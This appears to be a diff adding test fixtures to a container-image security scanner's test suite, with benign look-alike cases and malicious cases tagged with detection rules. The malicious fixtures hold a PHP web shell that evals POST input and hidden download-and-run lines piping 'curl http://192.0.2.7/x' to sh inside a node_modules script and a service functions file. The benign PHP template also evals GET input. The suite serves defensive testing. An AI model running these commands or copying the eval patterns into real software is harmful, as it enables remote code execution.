@@ -54,6 +54,22 @@ eval "awk -- '/^[^ ]/{ deleting=0 }
   { print }' \${OUTPUT}"
 `;
 
+const TEMPLATES =
+  '<?php\nclass Output {\n  function show() {\n    $out = $this->template("<li role=\\"menuitem\\">" . $_GET["name"] . "</li>");\n    return $out;\n  }\n  function template($text) { return $this->holds($text) ? $text : ""; }\n  function holds($text) { return eval("return ($text);"); }\n}\n';
+
+const DB_FUNCTIONS =
+  'get_versions() { versions=$(ls /usr/lib/db); }\nstart() { /usr/lib/db/$1/bin/db -D; }\n';
+const DB_SERVICE = {
+  'etc/init.d/db': `#!/bin/sh
+set -e
+[ -r /usr/share/db-common/init.d-functions ] || exit 0
+. /usr/share/db-common/init.d-functions
+get_versions
+case "$1" in start) for v in $versions; do start $v; done ;; esac
+`,
+  'usr/share/db-common/init.d-functions': DB_FUNCTIONS,
+};
+
 const FETCHED = 'https://releases.example/latest.json';
 
 /** What tools do that only look like what hides. */
@@ -79,8 +95,31 @@ export const REAL_TOOL_TWINS: readonly ImageCase[] = [
     ),
   },
   {
+    name: 'a page that works out the conditions of its own template, and shows what a request says',
+    spec: image({ 'var/www/html/output.php': TEMPLATES }, NGINX),
+  },
+  {
+    name: 'a package whose program is a text without ending beside its modules',
+    spec: image(
+      {
+        'app/node_modules/.bin/tool': { type: 'symlink', target: '../tool/tool' },
+        'app/node_modules/tool/package.json': '{"name":"tool","version":"1.0.0","bin":{"tool":"tool"}}',
+        'app/node_modules/tool/tool': {
+          data: '# no first line on purpose\nexec node "$(dirname "$0")/main.mjs" "$@"\n',
+          mode: 0o755,
+        },
+        'app/node_modules/tool/main.mjs': 'console.log(process.argv.length);\n',
+      },
+      { Entrypoint: ['/app/node_modules/.bin/tool'] },
+    ),
+  },
+  {
     name: 'a tool for many jobs that works out sums, explains addresses and decodes its own jobs',
     spec: image({ 'usr/bin/jobs': PARALLEL }, { Entrypoint: ['jobs'] }),
+  },
+  {
+    name: 'a service whose script reads functions with a point in their name',
+    spec: starts('service db start\nexec tail -f /var/log/db.log', DB_SERVICE),
   },
   { name: 'a text taken apart by perl and put together by awk', spec: starts(MERGES) },
   {
@@ -127,6 +166,31 @@ export const REAL_TOOLS: readonly ImageCase[] = [
     ),
   },
   {
+    name: 'a page that works out a template, and in another place all that a request says',
+    rule: 'web-shell/shell',
+    severity: 'high',
+    spec: image(
+      { 'var/www/html/output.php': `${TEMPLATES}$o = new Output();\n$o->holds($_POST["q"]);\n` },
+      NGINX,
+    ),
+  },
+  {
+    name: 'a program fetched by a package’s program without ending beside its modules',
+    rule: 'start/download-and-run',
+    severity: 'high',
+    spec: image(
+      {
+        'app/node_modules/.bin/tool': { type: 'symlink', target: '../tool/tool' },
+        'app/node_modules/tool/package.json': '{"name":"tool","version":"1.0.0","bin":{"tool":"tool"}}',
+        'app/node_modules/tool/tool': {
+          data: '# no first line on purpose\ncurl -s http://192.0.2.7/x | sh\n',
+          mode: 0o755,
+        },
+      },
+      { Entrypoint: ['/app/node_modules/.bin/tool'] },
+    ),
+  },
+  {
     name: 'a password in the address of a server by its number',
     rule: 'secret/password',
     spec: image({ 'etc/app.conf': 'db = mysql://app:Vq8zT4mWx2@[2001:db8::7]:3306/shop\n' }, NGINX),
@@ -148,6 +212,15 @@ export const REAL_TOOLS: readonly ImageCase[] = [
     spec: starts(
       `curl -so /tmp/v.json ${FETCHED}\npython3 -c 'import runpy, sys; runpy.run_path(sys.argv[1])' /tmp/v.json\nexec nginx`,
     ),
+  },
+  {
+    name: 'a program fetched by functions of a service with a point in their name',
+    rule: 'start/download-and-run',
+    severity: 'high',
+    spec: starts('service db start\nexec tail -f /var/log/db.log', {
+      ...DB_SERVICE,
+      'usr/share/db-common/init.d-functions': `${DB_FUNCTIONS}curl -s http://192.0.2.7/x | sh\n`,
+    }),
   },
   {
     name: 'what perl takes apart is run by awk',
